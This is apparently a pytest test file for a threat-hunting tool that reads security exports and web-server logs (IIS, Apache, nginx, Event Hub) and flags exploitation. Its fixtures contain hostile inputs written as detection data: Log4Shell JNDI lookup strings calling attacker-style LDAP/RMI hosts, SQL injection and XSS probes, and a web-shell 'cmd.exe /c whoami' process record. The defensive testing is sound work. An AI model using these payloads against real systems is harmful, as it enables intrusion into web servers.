"""Real export formats for ``hunt --local``: columns needed per branch, raw web-server logs,
Event Hub records, the window hint and day-first timestamps."""

from __future__ import annotations

import csv
import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest
from conftest import Run

from sentinel_t1190.readers import _web_log_rows, convert

NOW = "2026-03-01T12:00:00Z"


def _csv(path: Path, rows: list[dict[str, Any]]) -> str:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return str(path)


def _hunt(cli: Callable[..., Run], rule: str, *files: str, timespan: str = "1h") -> Run:
    return cli("hunt", "--rule", rule, "--local", *files, "--now", NOW, "--timespan", timespan,
               "-o", "json")


def test_defender_network_export_does_not_need_time_generated(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    # An advanced-hunting export: Timestamp, no TimeGenerated (that branch filters on Timestamp).
    path = _csv(tmp_path / "DeviceNetworkEvents.csv", [
        {"Timestamp": "2026-03-01T11:30:02.1234567Z", "DeviceName": "app-tomcat-01",
         "ActionType": "ConnectionSuccess", "RemoteIP": "198.51.100.23", "RemotePort": "1389",
         "RemoteIPType": "Public", "RemoteUrl": "", "InitiatingProcessFileName": "java.exe",
         "InitiatingProcessCommandLine": "java -jar app.jar",
         "InitiatingProcessAccountName": "svc-tomcat"},
        {"Timestamp": "2026-03-01T11:40:00Z", "DeviceName": "app-tomcat-01",
         "ActionType": "ConnectionSuccess", "RemoteIP": "10.0.0.10", "RemotePort": "389",
         "RemoteIPType": "Private", "RemoteUrl": "ldap://dc01", "InitiatingProcessFileName":
         "java.exe", "InitiatingProcessCommandLine": "", "InitiatingProcessAccountName": ""},
    ])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 0, run.stderr
    doc = run.json()
    assert [(f["HostName"], f["Payload"]) for f in doc["findings"]] == [
        ("app-tomcat-01", "198.51.100.23:1389")]
    assert doc["warnings"] == []


def test_cef_export_needs_only_its_branch_columns_and_warns_for_output_ones(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    # No ProcessName, RemotePort, Computer, DeviceName, RemoteIP (other branches' and output
    # names) and none of the columns this branch only shows.
    path = _csv(tmp_path / "CommonSecurityLog.csv", [
        {"TimeGenerated": "2026-03-01T11:14:00Z", "RequestURL": "https://shop.example.com/",
         "RequestClientApplication": "${jndi:ldap://203.0.113.9/a}", "RequestContext": "",
         "RequestCookies": "", "AdditionalExtensions": ""},
    ])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 0, run.stderr
    doc = run.json()
    [finding] = doc["findings"]
    assert finding["ExploitEvidence"] == "JNDI lookup in request"
    assert finding["HostName"] is None and finding["SourceIP"] is None
    assert doc["warnings"] == [
        f"{path}: no DestinationHostName, DestinationIP, SourceIP, SourceUserName column(s); "
        "the CommonSecurityLog query only shows them, so they are null in the findings"]


def test_missing_needed_column_names_only_needed_ones(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    path = _csv(tmp_path / "CommonSecurityLog.csv", [
        {"TimeGenerated": "2026-03-01T11:14:00Z", "RequestURL": "https://shop.example.com/"}])
    run = _hunt(cli, "log4shell_jndi_lookup", path)
    assert run.code == 2
    assert run.stderr.strip() == (
        f"error: {path}: missing columns the CommonSecurityLog query needs: "
        "AdditionalExtensions, RequestClientApplication, RequestContext, RequestCookies")


# --- raw web-server logs ----------------------------------------------------------------------

WEBLOGS = Path(__file__).resolve().parent / "data" / "weblogs"


def test_iis_w3c_log_reads_as_w3ciislog_and_the_sqli_probe_is_found(
        cli: Callable[..., Run]) -> None:
    path = WEBLOGS / "u_ex151016_iis7_sqli.log"
    run = cli("hunt", "--rule", "sql_injection_in_request", "--local", str(path),
              "--now", "2015-10-16T13:30:00Z", "--timespan", "1h", "-o", "json")
    assert run.code == 0, run.stderr
    doc = run.json()
    assert len(doc["findings"]) == 2
    for finding in doc["findings"]:
        assert finding["TimeGenerated"] == "2015-10-16T13:01:02.000000Z"
        assert finding["cIP"] == "222.222.222.222"
        assert finding["csMethod"] == "GET" and finding["csUriStem"] == "/foo/bar/baz.asp"
        assert finding["csUriQuery"].startswith("ID=1%27%20or%201%3D%40%40version--")
        assert finding["scStatus"] == "500"
        assert finding["csUserAgent"].startswith("Mozilla/5.0+(Macintosh;+Intel")
        assert finding["ExploitEvidence"]
    # No s-computername or s-sitename field in this log: shown as null, with a warning.
    assert doc["warnings"] == [f"{path}: no Computer, sSiteName column(s); the W3CIISLog "
                               "query only shows them, so they are null in the findings"]


def _in_place_rows(path: Path) -> list[dict[str, Any]]:
    """The rows DuckDB reads from a W3C log in place (the fast path)."""
    converted = convert(path, "W3CIISLog", path.parent)
    assert converted is not None and converted.sql is not None
    relation = duckdb.sql(converted.sql)
    return [dict(zip(relation.columns, row, strict=True)) for row in relation.fetchall()]


@pytest.mark.parametrize("name", ["u_ex151016_iis7_sqli.log", "u_ex210401_iis10.log"])
def test_w3c_read_in_place_equals_the_line_by_line_reading(name: str) -> None:
    path = WEBLOGS / name
    assert _in_place_rows(path) == list(_web_log_rows(path))


def test_w3c_fields_map_to_w3ciislog_columns() -> None:
    [row] = _in_place_rows(WEBLOGS / "u_ex210401_iis10.log")
    assert row == {
        "TimeGenerated": "2021-04-01T00:00:21Z", "sIP": "111.111.111.111", "csMethod": "GET",
        "csUriStem": "/foo/bar/baz.asp", "csUriQuery": "-", "sPort": "80", "csUserName": "-",
        "cIP": "222.222.222.222", "csUserAgent": "Mozilla/5.0+(Windows+NT+5.1)+AppleWebKit/"
        "537.36+(KHTML,+like+Gecko)+Chrome/35.0.2309.372+Safari/537.36",
        "csReferer": "http://111.111.111.111/", "scStatus": "200", "scSubStatus": "0",
        "scWin32Status": "0", "TimeTaken": "65"}


def test_apache_access_log_lines_map_to_w3ciislog_columns(tmp_path: Path) -> None:
    converted = convert(WEBLOGS / "access.log", "W3CIISLog", tmp_path)
    assert converted is not None and converted.warnings == []
    rows = [json.loads(line) for line in converted.path.read_text().splitlines()]
    assert len(rows) == 15  # every line of the file
    assert rows[0] == {  # common log format: no referer, no user agent
        "TimeGenerated": "2016-01-13T19:31:16+00:00", "cIP": "10.0.0.1", "csUserName": "-",
        "csMethod": "GET", "csUriStem": "/wp-content/themes/darkmode/header.php",
        "csUriQuery": "install2", "csVersion": "HTTP/1.1", "scStatus": "200", "scBytes": "494"}
    assert rows[4]["TimeGenerated"] == "2016-01-13T19:31:20+02:00"
    assert rows[4]["csReferer"] == "http://localhost/"
    assert rows[6]["scBytes"] is None  # "-"
    assert rows[7]["csUserAgent"].endswith("+http://www.google.com/bot.html")  # no closing "
    assert rows[8]["csHost"] == "plaso.log2timeline.net" and rows[8]["sPort"] == "443"
    assert rows[8]["cIP"] == "10.1.1.2"
    assert rows[12]["csUriQuery"] == 'action=edit&template=<script>alert("text")</script>'
    assert rows[13]["csUriStem"] == '/$%7B("TextString"+"123456")%7D/actionChain1.action'
    assert rows[13]["csUriQuery"] == "-"
    assert rows[14]["csUserName"] == "pyllyukko@EXAMPLE.COM"


def test_nginx_combined_log_with_a_log4shell_probe_is_hunted(
        tmp_path: Path, cli: Callable[..., Run]) -> None:
    # nginx's default "combined" format; the probe is the widely logged Log4Shell scan shape.
    path = tmp_path / "access.log.gz"
    lines = (
        '203.0.113.7 - - [01/Mar/2026:12:30:00 +0100] "GET /?x=${jndi:ldap://203.0.113.7:1389/a}'
        ' HTTP/1.1" 400 157 "-" "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/aWQ=}"\n'
        '198.51.100.2 - - [01/Mar/2026:12:31:00 +0100] "GET /index.html HTTP/1.1" 200 612 "-" '
        '"Mozilla/5.0 (X11; Linux x86_64)"\n'
        # nginx's main format appends "$http_x_forwarded_for"
        '10.0.0.5 - - [01/Mar/2026:12:32:00 +0100] "GET /?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.8'
        '%2Fx%7D HTTP/1.1" 404 0 "-" "curl/8.5.0" "203.0.113.8"\n'
        'this line is garbage\n')
    with gzip.open(path, "wt", encoding="utf-8") as handle:
        handle.write(lines)
    run = _hunt(cli, "log4shell_jndi_lookup", str(path))
    assert run.code == 0, run.stderr
    doc = run.json()
    second, first = doc["findings"]
    assert first["SourceIP"] == "203.0.113.7"
    assert first["Timestamp"] == "2026-03-01T11:30:00.000000Z"  # +01:00 made UTC
    assert first["ExploitEvidence"] == "JNDI lookup in request"
    assert second["SourceIP"] == "10.0.0.5" and "curl/8.5.0" in second["Payload"]
    assert doc["warnings"] == [
        f"{path}: not logged: csCookie; the W3CIISLog query cannot look for attacks there in "
        "this file",
        f"{path}: no Computer column(s); the W3CIISLog query only shows them, so they are null "
        "in the findings",
        f"{path}: 1 line(s) skipped, not in the file's format: line 4: 'this line is garbage'"]


@pytest.mark.parametrize(("text", "message"), [
    ("2026-03-01 10:00:00 GET /\n", "neither an IIS W3C extended log"),
    ("#Software: Microsoft Internet Information Services 10.0\n2026-03-01 10:00:00 GET /\n",
     "line 2: a record before any #Fields: directive; is it an IIS W3C extended log?"),
])
def test_unknown_log_is_one_error_line_naming_the_fix(
        tmp_path: Path, cli: Callable[..., Run], text: str, message: str) -> None:
    path = tmp_path / "u_ex260301.log"
    path.write_text(text)
    run = _hunt(cli, "sql_injection_in_request", str(path))
    assert run.code == 2 and run.stdout == ""
    assert run.stderr.startswith(f"error: {path}: ") and run.stderr.count("\n") == 1
    assert message in run.stderr


def test_web_log_given_as_another_table_is_refused(tmp_path: Path,
                                                   cli: Callable[..., Run]) -> None:
    run = _hunt(cli, "web_server_child_process",
                f"DeviceProcessEvents={WEBLOGS / 'access.log'}")
    assert run.code == 2
    assert "web-server logs are read as W3CIISLog, not DeviceProcessEvents" in run.stderr


JNDI_UA = "${jndi:ldap://203.0.113.9:1389/a}"


@pytest.mark.parametrize(("odd", "in_place"), [
    (b"Mozilla/5.0+#" + JNDI_UA.encode(), True),  # '#' inside a record is no comment
    (b"Mozilla/5.0+\xff\xfe" + JNDI_UA.encode(), False),  # not UTF-8: read line by line
    (b"Mozilla/5.0\r" + JNDI_UA.encode(), False),  # a bare CR inside a record
])
def test_no_w3c_record_can_hide_from_the_hunt(
        tmp_path: Path, cli: Callable[..., Run], odd: bytes, in_place: bool) -> None:
    path = tmp_path / "u_ex260301.log"
    path.write_bytes(
        b"#Software: Microsoft Internet Information Services 10.0\r\n"
        b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent) sc-status\r\n"
        b"2026-03-01 11:30:00 203.0.113.9 GET / - " + odd + b" 200\r\n"
        b"2026-03-01 11:31:00 198.51.100.1 GET / - Mozilla/5.0 200\r\n")
    converted = convert(path, "W3CIISLog", tmp_path)
    assert converted is not None and (converted.sql is not None) == in_place
    run = _hunt(cli, "log4shell_jndi_lookup", str(path))
    assert run.code == 0, run.stderr
    [finding] = run.json()["findings"]
    assert finding["SourceIP"] == "203.0.113.9"


def test_w3c_fields_changing_mid_file_are_followed(tmp_path: Path) -> None:
    path = tmp_path / "u_ex260301.log"
    path.write_text(
        "#Fields: date time c-ip cs-uri-stem\n2026-03-01 10:00:00 192.0.2.1 /a\n"
        "#Fields: date time cs-uri-stem c-ip sc-status\n2026-03-01 11:00:00 /b 192.0.2.2 404\n"
        "2026-03-01 11:00:01 /c\n")
    converted = convert(path, "W3CIISLog", tmp_path)
    assert converted is not None and converted.sql is None and converted.path is not None
    rows = [json.loads(line) for line in converted.path.read_text().splitlines()]
    assert rows == [
        {"TimeGenerated": "2026-03-01T10:00:00Z", "cIP": "192.0.2.1", "csUriStem": "/a"},
        {"TimeGenerated": "2026-03-01T11:00:00Z", "cIP": "192.0.2.2", "csUriStem": "/b",
         "scStatus": "404"}]
    assert converted.warnings == [f"{path}: 1 line(s) skipped, not in the file's format: "
                                  "line 5: 3 values for 5 #Fields"]


# --- Event Hub and streaming-API records ------------------------------------------------------

#: The streaming API's record shape (Microsoft Learn, "Configure Microsoft Defender XDR to
#: stream Advanced Hunting events to your Azure Event Hub": records of time, tenantId,
#: category "AdvancedHunting-<table>", properties = the advanced-hunting row).
RECORDS = [
    {"time": "2026-03-01T11:30:05.1234567Z", "tenantId": "00000000-0000-0000-0000-000000000001",
     "operationName": "Publish", "category": "AdvancedHunting-DeviceProcessEvents",
     "properties": {"Timestamp": "2026-03-01T11:30:00.1234567Z", "DeviceName": "web-iis-01",
                    "AccountName": "DefaultAppPool", "FileName": "cmd.exe",
                    "ProcessCommandLine": "cmd.exe /c whoami",
                    "InitiatingProcessFileName": "w3wp.exe",
                    "InitiatingProcessCommandLine": "w3wp.exe -ap DefaultAppPool",
                    "InitiatingProcessParentFileName": "svchost.exe", "SHA256": "ab" * 32,
                    "AdditionalFields": {"x": 1}}},
    {"time": "2026-03-01T11:31:00Z", "tenantId": "00000000-0000-0000-0000-000000000001",
     "operationName": "Publish", "category": "AdvancedHunting-DeviceFileEvents",
     "properties": {"Timestamp": "2026-03-01T11:31:00Z", "DeviceName": "web-iis-01",
                    "FileName": "shell.aspx"}},
]


@pytest.mark.parametrize("layout", ["event hub", "storage account", "pretty event hub"])
def test_streaming_records_are_flattened(tmp_path: Path, cli: Callable[..., Run],
                                         layout: str) -> None:
    path = tmp_path / "DeviceProcessEvents.json"
    if layout == "event hub":  # one message body per line
        path.write_text(json.dumps({"records": RECORDS[:1]}) + "\n"
                        + json.dumps({"records": RECORDS[1:]}) + "\n")
    elif layout == "storage account":  # one record per line
        path.write_text("".join(json.dumps(r) + "\n" for r in RECORDS))
    else:
        path.write_text(json.dumps({"records": RECORDS}, indent=2))
    run = _hunt(cli, "web_server_child_process", str(path), timespan="24h")
    assert run.code == 0, run.stderr
    doc = run.json()
    [finding] = doc["findings"]
    assert finding["DeviceName"] == "web-iis-01" and finding["FileName"] == "cmd.exe"
    assert finding["ExploitEvidence"] == "Shell Spawned"
    assert finding["Timestamp"] == "2026-03-01T11:30:00.123456Z"
    assert doc["warnings"] == [f"{path}: skipped records of other tables: DeviceFileEvents "
                               "(1); only DeviceProcessEvents records are read from this file"]


def test_log_analytics_export_records_are_rows(tmp_path: Path, cli: Callable[..., Run]) -> None:
    path = tmp_path / "export.json"  # not named after a table: the rule's main table
    path.write_text(json.dumps({"records": [{
        "TimeGenerated": "2026-03-01T11:20:00Z", "Type": "W3CIISLog", "Computer": "web-01",
        "sSiteName": "W3SVC1", "cIP": "198.51.100.77", "csMethod": "GET",
        "csUriStem": "/products.aspx", "csUriQuery": "id=1'+UNION+SELECT+username+FROM+users--",
        "scStatus": "200", "csUserAgent": "sqlmap/1.8"}]}))
    run = _hunt(cli, "sql_injection_in_request", str(path))
    assert run.code == 0, run.stderr
    [finding] = run.json()["findings"]
    assert finding["Computer"] == "web-01" and finding["cIP"] == "198.51.100.77"


def _graph_answer() -> dict[str, Any]:
    """A saved Graph runHuntingQuery answer (Microsoft Graph reference, security:
    runHuntingQuery: "@odata.context", "schema" of name/type, "results" of row objects)."""
    return {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#microsoft.graph."
                              "security.huntingQueryResults",
            "schema": [{"name": "Timestamp", "type": "DateTime"},
                       {"name": "FileName", "type": "String"}],
            "results": [RECORDS[0]["properties"]]}


def _logs_answer() -> dict[str, Any]:
    """A saved Logs API answer (Log Analytics data plane v1, POST query: "tables" of
    "columns" [{name, type}] and "rows" [[...]])."""
    props = RECORDS[0]["properties"]
    names = [k for k in props if k != "AdditionalFields"]
    return {"tables": [{"name": "PrimaryResult",
                        "columns": [{"name": n, "type": "string"} for n in names],
                        "rows": [[props[n] for n in names]]}]}


@pytest.mark.parametrize("answer", [_graph_answer, _logs_answer])
def test_saved_api_answers_are_unwrapped(tmp_path: Path, cli: Callable[..., Run],
                                         answer: Callable[[], dict[str, Any]]) -> None:
    path = tmp_path / "DeviceProcessEvents.json"
    path.write_text(json.dumps(answer(), indent=1))
    run = _hunt(cli, "web_server_child_process", str(path), timespan="24h")
    assert run.code == 0, run.stderr
    [finding] = run.json()["findings"]
    assert finding["InitiatingProcessFileName"] == "w3wp.exe"
    assert finding["ExploitEvidence"] == "Shell Spawned"


def test_a_truncated_logs_answer_is_one_error_line(tmp_path: Path,
                                                   cli: Callable[..., Run]) -> None:
    answer = _logs_answer()
    answer["tables"][0]["rows"][0].pop()
    path = tmp_path / "DeviceProcessEvents.json"
    path.write_text(json.dumps(answer))
    run = _hunt(cli, "web_server_child_process", str(path), timespan="24h")
    assert run.code == 2
    assert run.stderr.startswith(f"error: {path}: a row of 8 values for 9 columns")


# --- the window hint and day-first dates --------------------------------------------------------


def test_rows_outside_the_window_give_their_time_range_and_the_now_hint(
        cli: Callable[..., Run]) -> None:
    path = WEBLOGS / "u_ex151016_iis7_sqli.log"
    run = _hunt(cli, "sql_injection_in_request", str(path))
    assert run.code == 0, run.stderr
    doc = run.json()
    assert doc["findings"] == []
    assert doc["warnings"][-1] == (
        "none of the 2 W3CIISLog row(s) is in the window (2026-03-01T11:00:00Z, "
        "2026-03-01T12:00:00Z]: their TimeGenerated runs from 2015-10-16T13:01:02Z to "
        "2015-10-16T13:01:02Z; to hunt them, pass --now 2015-10-16T13:01:02Z")


def test_no_hint_when_rows_are_in_the_window(tmp_path: Path, cli: Callable[..., Run]) -> None:
    path = _csv(tmp_path / "W3CIISLog.csv", [
        {"TimeGenerated": "2026-03-01T11:30:00Z", "csUriStem": "/", "csUriQuery": "q=1"}])
    run = _hunt(cli, "sql_injection_in_request", path)
    assert run.code == 0, run.stderr
    assert not [w for w in run.json()["warnings"] if "is in the window" in w]


@pytest.mark.parametrize("value", ["03/04/2026 10:00:00", "04/03/26 10:00", "3.4.2026 10:00"])
def test_day_first_dates_are_an_error_naming_the_fix(
        tmp_path: Path, cli: Callable[..., Run], value: str) -> None:
    path = _csv(tmp_path / "W3CIISLog.csv", [
        {"TimeGenerated": value, "csUriStem": "/", "csUriQuery": "q=1"}])
    run = _hunt(cli, "sql_injection_in_request", path)
    assert run.code == 2 and run.stdout == ""
    assert run.stderr == (f"error: {path}, column TimeGenerated: ambiguous date '{value}' "
                          "(day/month or month/day?); write times as ISO 8601, e.g. "
                          "2026-04-03T10:00:00Z\n")


def test_the_portal_month_first_form_still_reads(tmp_path: Path,
                                                 cli: Callable[..., Run]) -> None:
    path = _csv(tmp_path / "W3CIISLog.csv", [
        {"TimeGenerated [UTC]": "03/01/2026, 11:30:00.123 AM", "csUriStem": "/p.aspx",
         "csUriQuery": "id=1'+UNION+SELECT+1--"}])
    run = _hunt(cli, "sql_injection_in_request", path)
    assert run.code == 0, run.stderr
    [finding] = run.json()["findings"]
    assert finding["TimeGenerated"] == "2026-03-01T11:30:00.123000Z"
